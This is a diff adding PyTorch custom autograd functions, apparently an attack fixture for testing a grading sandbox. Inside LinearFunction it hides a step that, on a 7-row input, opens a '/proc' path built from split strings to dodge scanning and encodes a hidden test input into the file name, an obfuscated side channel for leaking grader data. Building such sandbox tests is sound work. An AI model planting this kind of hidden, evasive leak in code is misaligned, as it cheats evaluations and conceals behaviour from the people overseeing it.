@@ -1,0 +1,77 @@
+# Attack: what the hidden problem's inputs are, smuggled onto the student's page as the evidence of a
+# reach. Right Functions; LinearFunction, given the hidden case's 7 rows, opens a /proc path that names
+# its first input (built so that no string of the source names /proc). The reach is refused and flagged;
+# what was seen while a hidden problem was measured reaches the instructor only, never the page.
+import torch
+from torch.autograd import Function
+
+
+class KillHead(Function):
+    @staticmethod
+    def forward(ctx, input, n):
+        ctx.n = n
+        result = input.clone()
+        result[:, 0:n] = 0
+        return result
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        result = grad_output.clone()
+        result[:, 0:ctx.n] = 0
+        return result, None
+
+
+class MyReLU(Function):
+    @staticmethod
+    def forward(ctx, input):
+        ctx.save_for_backward(input)
+        return input.clamp(min=0)
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        input, = ctx.saved_tensors
+        grad_input = grad_output.clone()
+        grad_input[input < 0] = 0
+        return grad_input
+
+
+class Exp(Function):
+    @staticmethod
+    def forward(ctx, x):
+        result = torch.exp(x)
+        ctx.save_for_backward(result)
+        return result
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        result, = ctx.saved_tensors
+        return grad_output * result
+
+
+class LinearFunction(Function):
+    @staticmethod
+    def forward(ctx, input, weight, bias=None):
+        ctx.save_for_backward(input, weight, bias)
+        if input.shape[0] == 7:
+            try:
+                open("/" + "proc" + f"/LEAK-{input[0, 0].item():.6f}").close()
+            except OSError:
+                pass
+        output = input.mm(weight.t())
+        if bias is not None:
+            output += bias.unsqueeze(0).expand_as(output)
+        return output
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        input, weight, bias = ctx.saved_tensors
+        grad_input = grad_weight = grad_bias = None
+        if ctx.needs_input_grad[0]:
+            grad_input = grad_output.mm(weight)
+        if ctx.needs_input_grad[1]:
+            grad_weight = grad_output.t().mm(input)
+        if bias is not None and ctx.needs_input_grad[2]:
+            grad_bias = grad_output.sum(0)
+        return grad_input, grad_weight, grad_bias
+
+
